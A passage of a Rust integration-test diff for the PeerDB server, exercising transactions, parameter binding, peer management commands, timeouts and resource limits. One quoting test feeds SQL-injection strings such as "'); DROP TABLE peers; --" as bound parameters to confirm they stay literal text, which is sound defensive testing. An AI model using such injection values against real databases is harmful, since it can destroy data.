+    assert_eq!(err.code(), Some(&SqlState::FEATURE_NOT_SUPPORTED));
+}
+
+#[test]
+fn commit_and_chain_opens_a_new_transaction() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("BEGIN ISOLATION LEVEL REPEATABLE READ;")
+        .expect("begin should succeed");
+    client
+        .simple_query("COMMIT AND CHAIN;")
+        .expect("commit and chain should succeed");
+    // savepoints only exist in a transaction block
+    client
+        .simple_query("SAVEPOINT chained;")
+        .expect("the chained transaction should be open");
+    let isolation = fetch_rows(
+        &mut client,
+        "SELECT current_setting('transaction_isolation');",
+    );
+    assert_eq!(isolation[0][0].as_deref(), Some("repeatable read"));
+
+    client
+        .simple_query("ROLLBACK AND CHAIN;")
+        .expect("rollback and chain should succeed");
+    client
+        .simple_query("SAVEPOINT chained_again;")
+        .expect("the chained transaction should be open");
+    client
+        .simple_query("ROLLBACK;")
+        .expect("rollback should succeed");
+}
+
+#[test]
+fn set_session_characteristics_sets_transaction_defaults() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query(
+            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY;",
+        )
+        .expect("set session characteristics should succeed");
+    let show = |client: &mut Client, name: &str| {
+        fetch_rows(client, &format!("SHOW {};", name))[0][0].clone()
+    };
+    assert_eq!(
+        show(&mut client, "default_transaction_isolation").as_deref(),
+        Some("serializable")
+    );
+    assert_eq!(
+        show(&mut client, "default_transaction_read_only").as_deref(),
+        Some("on")
+    );
+}
+
+#[test]
+fn auto_limit_is_validated() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("SET peerdb.auto_limit = 1000;")
+        .expect("a number of rows should be accepted");
+    for value in ["-1", "lots"] {
+        let err = client
+            .simple_query(&format!("SET peerdb.auto_limit = '{}';", value))
+            .unwrap_err();
+        assert_eq!(
+            err.code(),
+            Some(&SqlState::INVALID_PARAMETER_VALUE),
+            "{}",
+            value
+        );
+    }
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn auto_limit_is_added_to_unlimited_peer_selects() {
+    let server = PeerDBServer::new();
+    setup_peers(&mut server.connect_dying());
+
+    let notices = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let seen = notices.clone();
+    let mut client = "host=localhost port=9900 password=peerdb user=peerdb"
+        .parse::<postgres::Config>()
+        .unwrap()
+        .notice_callback(move |notice| seen.lock().unwrap().push(notice.message().to_owned()))
+        .connect(NoTls)
+        .unwrap();
+    client.simple_query("SET peerdb.auto_limit = 5;").unwrap();
+
+    let rows = fetch_rows(&mut client, "SELECT oid FROM pg_test.pg_catalog.pg_class;");
+    assert_eq!(rows.len(), 5);
+    assert_eq!(notices.lock().unwrap().len(), 1);
+    assert!(notices.lock().unwrap()[0].contains("peerdb.auto_limit"));
+
+    // queries with their own limit and plain aggregates are left alone
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT oid FROM pg_test.pg_catalog.pg_class LIMIT 7;",
+    );
+    assert_eq!(rows.len(), 7);
+    let count = fetch_rows(
+        &mut client,
+        "SELECT count(*) FROM pg_test.pg_catalog.pg_class;",
+    );
+    assert!(count[0][0].as_deref().unwrap().parse::<i64>().unwrap() > 5);
+    assert_eq!(notices.lock().unwrap().len(), 1);
+
+    client.simple_query("SET peerdb.auto_limit = 0;").unwrap();
+    let rows = fetch_rows(&mut client, "SELECT oid FROM pg_test.pg_catalog.pg_class;");
+    assert!(rows.len() > 5);
+}
+
+const EXTENDED_CREATE_PEER: &str = "CREATE PEER extended_pg FROM POSTGRES WITH (
+    host = 'localhost', port = '5432', user = 'postgres', password = 'postgres',
+    database = 'postgres'
+);";
+
+#[test]
+fn bound_parameters_are_quoted() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for value in [
+        "O'Brien",
+        "1; SELECT 2",
+        "a -- b",
+        "back\\slash'",
+        "$2",
+        "'); DROP TABLE peers; --",
+    ] {
+        let row = client
+            .query_one("SELECT $1::text, $2::text", &[&value, &"second"])
+            .unwrap();
+        assert_eq!(row.get::<_, &str>(0), value);
+        assert_eq!(row.get::<_, &str>(1), "second");
+    }
+
+    // placeholders in literals and comments are left alone
+    let row = client
+        .query_one("SELECT '$1'::text /* $1 */, $1::text -- $1\n", &[&"x"])
+        .unwrap();
+    assert_eq!(row.get::<_, &str>(0), "$1");
+    assert_eq!(row.get::<_, &str>(1), "x");
+
+    let row = client
+        .query_one("SELECT $1::text, $2::int4", &[&None::<&str>, &None::<i32>])
+        .unwrap();
+    assert_eq!(row.get::<_, Option<&str>>(0), None);
+    assert_eq!(row.get::<_, Option<i32>>(1), None);
+}
+
+#[test]
+fn numeric_parameters_keep_their_digits() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    for value in [
+        "0",
+        "-12.50",
+        "0.0000000000000000000000000001",
+        "-79228162514264337593543950335",
+        "123456789.1234567890123456789",
+    ] {
+        let decimal = rust_decimal::Decimal::from_str_exact(value).unwrap();
+        let row = client
+            .query_one("SELECT $1::numeric::text", &[&decimal])
+            .unwrap();
+        assert_eq!(row.get::<_, &str>(0), value);
+    }
+
+    let row = client
+        .query_one("SELECT $1::numeric", &[&None::<rust_decimal::Decimal>])
+        .unwrap();
+    assert_eq!(row.get::<_, Option<rust_decimal::Decimal>>(0), None);
+}
+
+#[test]
+fn uuid_and_bytea_parameters_round_trip() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let id = uuid::Uuid::parse_str("67e55044-10b1-426f-9247-bb680e5fe0c8").unwrap();
+    let bytes = vec![0u8, b'\'', b'\\', b'x', 0xff];
+    let row = client
+        .query_one("SELECT $1::uuid::text, $2::bytea", &[&id, &bytes])
+        .unwrap();
+    assert_eq!(
+        row.get::<_, &str>(0),
+        "67e55044-10b1-426f-9247-bb680e5fe0c8"
+    );
+    assert_eq!(row.get::<_, Vec<u8>>(1), bytes);
+
+    let row = client
+        .query_one(
+            "SELECT $1::uuid, $2::bytea",
+            &[&None::<uuid::Uuid>, &None::<Vec<u8>>],
+        )
+        .unwrap();
+    assert_eq!(row.get::<_, Option<uuid::Uuid>>(0), None);
+    assert_eq!(row.get::<_, Option<Vec<u8>>>(1), None);
+}
+
+#[test]
+fn date_time_parameters_round_trip() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let at = chrono::DateTime::parse_from_rfc3339("2024-02-29T23:15:30.123456+05:30").unwrap();
+    let row = client
+        .query_one(
+            "SELECT $1::timestamptz, $1::timestamptz = '2024-02-29 17:45:30.123456Z'",
+            &[&at],
+        )
+        .unwrap();
+    assert_eq!(row.get::<_, chrono::DateTime<chrono::FixedOffset>>(0), at);
+    assert!(row.get::<_, bool>(1));
+
+    let naive = at.naive_local();
+    let row = client
+        .query_one(
+            "SELECT $1::timestamp, $2::date, $3::time",
+            &[&naive, &naive.date(), &naive.time()],
+        )
+        .unwrap();
+    assert_eq!(row.get::<_, chrono::NaiveDateTime>(0), naive);
+    assert_eq!(row.get::<_, chrono::NaiveDate>(1), naive.date());
+    assert_eq!(row.get::<_, chrono::NaiveTime>(2), naive.time());
+
+    let row = client
+        .query_one("SELECT $1::date", &[&None::<chrono::NaiveDate>])
+        .unwrap();
+    assert_eq!(row.get::<_, Option<chrono::NaiveDate>>(0), None);
+}
+
+#[test]
+fn bound_parameters_past_nine_are_not_mixed_up() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let values = (1..=12).map(|n| format!("v{}", n)).collect::<Vec<_>>();
+    let params = values
+        .iter()
+        .map(|v| v as &(dyn postgres::types::ToSql + Sync))
+        .collect::<Vec<_>>();
+    let columns = (1..=12)
+        .map(|n| format!("${}::text", n))
+        .collect::<Vec<_>>()
+        .join(", ");
+    let row = client
+        .query_one(&format!("SELECT {}, '$1 $10'::text", columns), &params)
+        .unwrap();
+    for (idx, value) in values.iter().enumerate() {
+        assert_eq!(row.get::<_, &str>(idx), value);
+    }
+    assert_eq!(row.get::<_, &str>(12), "$1 $10");
+}
+
+#[test]
+fn create_peer_over_extended_protocol_describes_no_data() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let stmt = client
+        .prepare(EXTENDED_CREATE_PEER)
+        .expect("create peer should prepare");
+    assert!(stmt.columns().is_empty());
+    assert!(stmt.params().is_empty());
+    // without a flow service the peer can't be created, the connection is
+    // still usable afterwards
+    let err = client.execute(&stmt, &[]).unwrap_err();
+    assert!(err.to_string().contains("flow service is not configured"));
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT 1;")[0][0].as_deref(),
+        Some("1")
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn create_peer_over_extended_protocol() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let stmt = client
+        .prepare(EXTENDED_CREATE_PEER)
+        .expect("create peer should prepare");
+    assert!(stmt.columns().is_empty());
+    assert_eq!(client.execute(&stmt, &[]).unwrap(), 0);
+    let peers = fetch_rows(
+        &mut client,
+        "SELECT name FROM peers WHERE name = 'extended_pg';",
+    );
+    assert_eq!(peers.len(), 1);
+    client
+        .simple_query("DROP PEER extended_pg;")
+        .expect("drop peer should succeed");
+}
+
+#[test]
+fn create_peer_rejects_invalid_configs() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let cases = [
+        (
+            "CREATE PEER bad_pg FROM POSTGRES WITH
+            (host = 'localhost', port = '5432', user = 'postgres', password = '', database = 'postgres');",
+            SqlState::SYNTAX_ERROR,
+            "password",
+        ),
+        (
+            "CREATE PEER bad_pg FROM POSTGRES WITH
+            (host = 'localhost', port = '70000', user = 'postgres', password = 'postgres', database = 'postgres');",
+            SqlState::INVALID_PARAMETER_VALUE,
+            "port",
+        ),
+        (
+            "CREATE PEER bad_pg FROM POSTGRES WITH
+            (host = 'localhost', port = '5432', user = 'postgres', password = 'postgres', database = 'postgres',
+            target_session_attrs = 'writable');",
+            SqlState::INVALID_PARAMETER_VALUE,
+            "target_session_attrs",
+        ),
+        (
+            "CREATE PEER bad_pg FROM POSTGRES WITH
+            (host = 'localhost', port = '5432', user = 'postgres', password = 'postgres', database = 'postgres',
+            pool_min_size = '4', pool_max_size = '2');",
+            SqlState::INVALID_PARAMETER_VALUE,
+            "pool_min_size",
+        ),
+        (
+            "CREATE PEER bad_bq FROM BIGQUERY WITH
+            (type = 'service_account', project_id = 'project', private_key_id = 'id',
+            private_key = 'secret://gcp/projects/project/secrets/bq_key', client_email = 'sa@example.com',
+            client_id = 'client', auth_uri = 'https://accounts.google.com/o/oauth2/auth',
+            token_uri = 'https://oauth2.googleapis.com/token',
+            auth_provider_x509_cert_url = 'https://www.googleapis.com/oauth2/v1/certs',
+            client_x509_cert_url = 'https://www.googleapis.com/robot/v1/metadata/x509/sa');",
+            SqlState::SYNTAX_ERROR,
+            "dataset_id",
+        ),
+        (
+            "CREATE PEER bad_s3 FROM S3 WITH (url = 'https://bucket/prefix');",
+            SqlState::INVALID_PARAMETER_VALUE,
+            "url",
+        ),
+        (
+            "CREATE PEER bad_s3 FROM S3 WITH (url = 's3://bucket/prefix', access_key_id = 'key');",
+            SqlState::INVALID_PARAMETER_VALUE,
+            "secret_access_key",
+        ),
+    ];
+    for (query, code, option) in cases {
+        let err = client
+            .simple_query(query)
+            .expect_err("invalid peer config should be rejected");
+        assert_eq!(err.code(), Some(&code), "{}", query);
+        let message = err.as_db_error().expect("should be a db error").message();
+        assert!(message.contains(option), "{}: {}", query, message);
+    }
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn create_peer_checks_the_peer_is_reachable() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let create = |validate: &str| {
+        format!(
+            "CREATE PEER unreachable_pg FROM POSTGRES WITH
+            (host = '127.0.0.1', port = '1', user = 'postgres', password = 'postgres',
+            database = 'postgres'{});",
+            validate
+        )
+    };
+    let err = client.simple_query(&create("")).unwrap_err();
+    assert_eq!(
+        err.code(),
+        Some(&SqlState::SQLCLIENT_UNABLE_TO_ESTABLISH_SQLCONNECTION)
+    );
+    assert!(err.to_string().contains("validate = false"), "{}", err);
+    assert!(fetch_rows(&mut client, "SHOW PEERS LIKE 'unreachable_pg';").is_empty());
+
+    client
+        .simple_query(&create(", validate = false"))
+        .expect("an unchecked peer should be created");
+    assert_eq!(
+        fetch_rows(&mut client, "SHOW PEERS LIKE 'unreachable_pg';").len(),
+        1
+    );
+    client.simple_query("DROP PEER unreachable_pg;").unwrap();
+}
+
+#[test]
+fn timeout_hint_applies_to_its_statement_only() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("/*+ timeout(100ms) */ SELECT pg_sleep(2);")
+        .expect_err("pg_sleep should hit the hinted timeout");
+    assert_eq!(err.code(), Some(&SqlState::QUERY_CANCELED));
+    client
+        .simple_query("SELECT pg_sleep(0.2);")
+        .expect("the hint should not outlive its statement");
+
+    // the hint wins over the session's statement_timeout
+    client
+        .simple_query("SET statement_timeout = '100ms';")
+        .unwrap();
+    client
+        .simple_query("/*+ timeout(5s) */ SELECT pg_sleep(0.2);")
+        .expect("the hinted timeout should apply");
+    client
+        .simple_query("/*+ timeout(0) */ SELECT pg_sleep(0.2);")
+        .expect("a zero hint should turn the timeout off");
+    let err = client.simple_query("SELECT pg_sleep(2);").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::QUERY_CANCELED));
+
+    for (hint, code) in [
+        ("/*+ timeout() */", SqlState::SYNTAX_ERROR),
+        ("/*+ timeout(soon) */", SqlState::INVALID_PARAMETER_VALUE),
+    ] {
+        let err = client
+            .simple_query(&format!("{} SELECT 1;", hint))
+            .unwrap_err();
+        assert_eq!(err.code(), Some(&code), "{}", hint);
+    }
+}
+
+#[test]
+fn test_peer_of_unknown_peer_errors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client.simple_query("TEST PEER no_such_peer;").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn test_peer_reports_reachable_peer() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let res = client.simple_query("TEST PEER pg_test;").unwrap();
+    let SimpleQueryMessage::Row(row) = &res[0] else {
+        panic!("TEST PEER should return a row");
+    };
+    assert_eq!(row.columns()[0].name(), "reachable");
+    assert_eq!(row.get("reachable"), Some("t"));
+    assert!(row.get("latency_ms").unwrap().parse::<f64>().unwrap() >= 0.0);
+    assert_eq!(row.get("error"), None);
+}
+
+#[test]
+fn alter_peer_of_unknown_peer_errors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("ALTER PEER no_such_peer SET CONFIG (password = 'rotated');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn alter_peer_replaces_its_config() {
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+    assert!(!fetch_rows(
+        &mut client,
+        "SELECT 1 FROM pg_test.pg_catalog.pg_class LIMIT 1;"
+    )
+    .is_empty());
+
+    let options = |password: &str| {
+        format!(
+            "(host = '{}', port = '{}', database = '{}', user = '{}', password = '{}')",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_DATABASE"),
+            env("PEERDB_CATALOG_USER"),
+            password
+        )
+    };
+    // the cached connection is dropped, the next query connects with the
+    // new password
+    client
+        .simple_query(&format!(
+            "ALTER PEER pg_test SET CONFIG {};",
+            options("not the password")
+        ))
+        .unwrap();
+    assert!(client
+        .simple_query("SELECT 1 FROM pg_test.pg_catalog.pg_class LIMIT 1;")
+        .is_err());
+
+    client
+        .simple_query(&format!(
+            "ALTER PEER pg_test FROM POSTGRES SET CONFIG {};",
+            options(&env("PEERDB_CATALOG_PASSWORD"))
+        ))
+        .unwrap();
+    assert!(!fetch_rows(
+        &mut client,
+        "SELECT 1 FROM pg_test.pg_catalog.pg_class LIMIT 1;"
+    )
+    .is_empty());
+
+    let err = client
+        .simple_query("ALTER PEER pg_test FROM SNOWFLAKE SET CONFIG (account_id = 'x');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::WRONG_OBJECT_TYPE));
+}
+
+#[test]
+fn show_peers_of_no_matching_peer_is_empty() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    assert!(fetch_rows(&mut client, "SHOW PEERS LIKE 'no_such_peer%';").is_empty());
+    // the columns are described for the extended protocol
+    let stmt = client.prepare("SHOW PEERS").unwrap();
+    let columns = stmt
+        .columns()
+        .iter()
+        .map(|column| column.name())
+        .collect::<Vec<_>>();
+    assert_eq!(columns, ["name", "peer_type", "created_at"]);
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn show_peers_lists_registered_peers() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let rows = fetch_rows(&mut client, "SHOW PEERS;");
+    assert!(rows
+        .iter()
+        .any(|row| row[0].as_deref() == Some("pg_test") && row[1].as_deref() == Some("POSTGRES")));
+    assert!(rows.iter().all(|row| row[2].is_some()));
+
+    let rows = fetch_rows(&mut client, "SHOW PEERS LIKE 'pg%';");
+    assert!(!rows.is_empty());
+    assert!(rows
+        .iter()
+        .all(|row| row[0].as_deref().is_some_and(|name| name.starts_with("pg"))));
+}
+
+#[test]
+fn insert_returning_sends_the_generated_keys() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("CREATE TEMP TABLE returning_keys (id serial PRIMARY KEY, name text);")
+        .unwrap();
+    let ids = fetch_rows(
+        &mut client,
+        "INSERT INTO returning_keys (name) VALUES ('a'), ('b') RETURNING id;",
+    );
+    assert_eq!(
+        ids,
+        vec![vec![Some("1".to_owned())], vec![Some("2".to_owned())]]
+    );
+
+    // over the extended protocol, as ORMs send it
+    let rows = client
+        .query(
+            "INSERT INTO returning_keys (name) VALUES ('c') RETURNING id, name;",
+            &[],
+        )
+        .unwrap();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0].get::<_, i32>("id"), 3);
+    assert_eq!(rows[0].get::<_, String>("name"), "c");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn returning_is_rejected_on_bigquery_peers() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    let err = client
+        .simple_query("INSERT INTO bq_test.users (id) VALUES (1) RETURNING id;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::FEATURE_NOT_SUPPORTED));
+}
+
+#[test]
+fn temp_views_are_inlined_and_scoped_to_the_connection() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    client
+        .simple_query("CREATE TEMP VIEW nums (n) AS SELECT generate_series(1, 3);")
+        .unwrap();
+    client
+        .simple_query("CREATE TEMP VIEW odd_nums AS SELECT n FROM nums WHERE n % 2 = 1;")
+        .unwrap();
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT n FROM odd_nums ORDER BY n;"),
+        vec![vec![Some("1".to_owned())], vec![Some("3".to_owned())]]
+    );
+
+    let err = client
+        .simple_query("CREATE OR REPLACE TEMP VIEW nums AS SELECT n FROM odd_nums;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_OBJECT_DEFINITION));
+    // the failed replacement leaves the view as it was
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT count(*) FROM nums;").len(),
+        1
+    );
+
+    let mut other = server.connect_dying();
+    let err = other.simple_query("SELECT n FROM nums;").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_TABLE));
+
+    client.simple_query("DROP VIEW odd_nums, nums;").unwrap();
+    let err = client.simple_query("SELECT n FROM nums;").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_TABLE));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn temp_view_over_a_peer_is_routed_to_it() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    setup_peers(&mut client);
+
+    client
+        .simple_query("CREATE TEMP VIEW pg_rows AS SELECT * FROM pg_test.test.test_table;")
+        .unwrap();
+    let viewed = client.simple_query("SELECT * FROM pg_rows;").unwrap();
+    let direct = client
+        .simple_query("SELECT * FROM pg_test.test.test_table;")
+        .unwrap();
+    assert_eq!(viewed.len(), direct.len());
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn lost_peer_connection_is_reconnected_with_session_state() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+    let query = "SELECT name, setting FROM pg_test.pg_catalog.pg_settings \
+        WHERE name IN ('application_name', 'search_path') ORDER BY name;";
+    let expected = vec![
+        vec![
+            Some("application_name".to_owned()),
+            Some("reconnect_test".to_owned()),
+        ],
+        vec![
+            Some("search_path".to_owned()),
+            Some("test, public".to_owned()),
+        ],
+    ];
+
+    client
+        .simple_query("SET search_path = test, public;")
+        .unwrap();
+    client
+        .simple_query("SET application_name = 'reconnect_test';")
+        .unwrap();
+    assert_eq!(fetch_rows(&mut client, query), expected);
+
+    // the peer closes the idle connection between two statements
+    connect_catalog()
+        .simple_query(
+            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity \
+            WHERE application_name = 'reconnect_test';",
+        )
+        .unwrap();
+    thread::sleep(Duration::from_millis(500));
+    assert_eq!(fetch_rows(&mut client, query), expected);
+}
+
+#[test]
+fn export_schema_of_unknown_peer_errors() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let err = client
+        .simple_query("EXPORT SCHEMA FROM PEER no_such_peer;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::UNDEFINED_OBJECT));
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn export_schema_lists_every_column_of_the_schema() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP SCHEMA IF EXISTS export_test CASCADE;
+            CREATE SCHEMA export_test;
+            CREATE TABLE export_test.orders(id int8 NOT NULL, note text);
+            CREATE TABLE export_test.customers(id int4 NOT NULL, name text, score float8);",
+        )
+        .expect("failed to create tables");
+
+    let rows = fetch_rows(
+        &mut client,
+        "EXPORT SCHEMA FROM PEER pg_test IN SCHEMA export_test;",
+    );
+    let row = |table: &str, column: &str, data_type: &str, nullable: &str, ordinal: &str| {
+        ["export_test", table, column, data_type, nullable, ordinal]
+            .iter()
+            .map(|value| Some(value.to_string()))
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        rows,
+        vec![
+            row("customers", "id", "integer", "f", "1"),
+            row("customers", "name", "text", "t", "2"),
+            row("customers", "score", "double precision", "t", "3"),
+            row("orders", "id", "bigint", "f", "1"),
+            row("orders", "note", "text", "t", "2"),
+        ]
+    );
+
+    catalog
+        .batch_execute("DROP SCHEMA export_test CASCADE;")
+        .unwrap();
+}
+
+#[test]
+fn result_limits_fail_wide_results() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('max_result_columns', '3');",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("3"));
+    let rows = fetch_rows(&mut client, "SELECT 1, 2, 3;");
+    assert_eq!(rows[0].len(), 3);
+    let err = client.simple_query("SELECT 1, 2, 3, 4;").unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::TOO_MANY_COLUMNS));
+    let err = client.query("SELECT 1, 2, 3, 4", &[]).unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::TOO_MANY_COLUMNS));
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('max_result_value_size', '1000B');",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("1000B"));
+    let rows = client
+        .query(
+            "SELECT i, repeat('x', 10) FROM generate_series(1, 3) AS i",
+            &[],
+        )
+        .unwrap();
+    assert_eq!(rows.len(), 3);
+    // the row with the large value fails the query, the ones before it were read
+    let err = client
+        .query(
+            "SELECT i, repeat('x', CASE WHEN i = 3 THEN 100000 ELSE 10 END) AS padding \
+             FROM generate_series(1, 5) AS i",
+            &[],
+        )
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::PROGRAM_LIMIT_EXCEEDED));
+    assert!(err.to_string().contains("padding"), "{}", err);
+
+    // the connection is still usable
+    let rows = fetch_rows(&mut client, "SELECT 1;");
+    assert_eq!(rows, vec![vec![Some("1".to_owned())]]);
+
+    let err = client
+        .simple_query("SELECT peerdb.set_config('max_result_columns', 'many');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+
+    // the catalog is shared with the other tests
+    for setting in ["max_result_columns", "max_result_value_size"] {
+        fetch_rows(
+            &mut client,
+            &format!("SELECT peerdb.set_config('{}', '0');", setting),
+        );
+    }
+}
+
+#[test]
+fn connection_memory_limit_fails_buffering_queries_cleanly() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let rows = fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('connection_memory_limit', '1MB');",
+    );
+    assert_eq!(rows[0][0].as_deref(), Some("1024kB"));
+
+    // ~5MB of rows read ahead for a portal executed a row at a time
+    let query = "SELECT i, repeat('x', 1000) AS padding FROM generate_series(1, 5000) AS i";
+    {
+        let mut tx = client.transaction().unwrap();
+        let stmt = tx.prepare(query).unwrap();
+        let portal = tx.bind(&stmt, &[]).unwrap();
+        assert_eq!(tx.query_portal(&portal, 1).unwrap().len(), 1);
+        let err = tx.query_portal(&portal, 0).unwrap_err();
+        assert_eq!(err.code(), Some(&SqlState::OUT_OF_MEMORY));
+    }
+
+    // the connection is still usable and the memory was given back
+    let rows = fetch_rows(&mut client, "SELECT 1;");
+    assert_eq!(rows, vec![vec![Some("1".to_owned())]]);
+
+    // a spooled result goes to disk at the limit instead of failing
+    client
+        .simple_query("SET peerdb.spool_large_results = on;")
+        .unwrap();
+    let rows = client.query(query, &[]).unwrap();
+    assert_eq!(rows.len(), 5000);
+
+    let err = client
+        .simple_query("SELECT peerdb.set_config('connection_memory_limit', 'plenty');")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
+
+    // the catalog is shared with the other tests
+    fetch_rows(
+        &mut client,
+        "SELECT peerdb.set_config('connection_memory_limit', '0');",
+    );
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn select_for_update_locks_rows_in_the_peer_transaction() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.lock_test;
+            CREATE TABLE public.lock_test(id int PRIMARY KEY, name text);
+            INSERT INTO public.lock_test VALUES (1, 'locked'), (2, 'free');",
+        )
+        .expect("failed to create table");
+    let query = "SELECT id, name FROM pg_test.public.lock_test WHERE id = 1 FOR UPDATE;";
+
+    // outside a transaction the lock would be released right away
+    let err = client.simple_query(query).unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::NO_ACTIVE_SQL_TRANSACTION));
+
+    client.simple_query("/*+ peer(pg_test) */ BEGIN;").unwrap();
+    assert_eq!(
+        fetch_rows(&mut client, query),
+        vec![vec![Some("1".to_owned()), Some("locked".to_owned())]]
+    );
+
+    // another session can't take the lock while the transaction is open
+    let err = catalog
+        .simple_query("SELECT * FROM public.lock_test WHERE id = 1 FOR UPDATE NOWAIT;")
+        .unwrap_err();
+    assert_eq!(err.code(), Some(&SqlState::LOCK_NOT_AVAILABLE));
+    catalog
+        .simple_query("SELECT * FROM public.lock_test WHERE id = 2 FOR UPDATE NOWAIT;")
+        .expect("other rows should not be locked");
+
+    client
+        .simple_query("/*+ peer(pg_test) */ ROLLBACK;")
+        .unwrap();
+    catalog
+        .simple_query("SELECT * FROM public.lock_test WHERE id = 1 FOR UPDATE NOWAIT;")
+        .expect("the lock should be released with the transaction");
+    catalog
+        .batch_execute("DROP TABLE public.lock_test;")
+        .unwrap();
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn idle_peer_transactions_are_rolled_back() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    create_peers::create_pg::create(&mut client);
+
+    let mut catalog = connect_catalog();
+    catalog
+        .batch_execute(
+            "DROP TABLE IF EXISTS public.idle_lock_test;
+            CREATE TABLE public.idle_lock_test(id int PRIMARY KEY, name text);
+            INSERT INTO public.idle_lock_test VALUES (1, 'locked');",
+        )
+        .expect("failed to create table");
+
+    client
+        .simple_query("SET idle_in_transaction_session_timeout = '500ms';")
+        .unwrap();
+    client.simple_query("/*+ peer(pg_test) */ BEGIN;").unwrap();
+    client
+        .simple_query("UPDATE pg_test.public.idle_lock_test SET name = 'changed' WHERE id = 1;")
+        .unwrap();
+    // busy within the timeout, the transaction stays open
+    thread::sleep(Duration::from_millis(300));
+    client
+        .simple_query("SELECT * FROM pg_test.public.idle_lock_test;")
+        .unwrap();
+    thread::sleep(Duration::from_millis(300));
+    let err = catalog
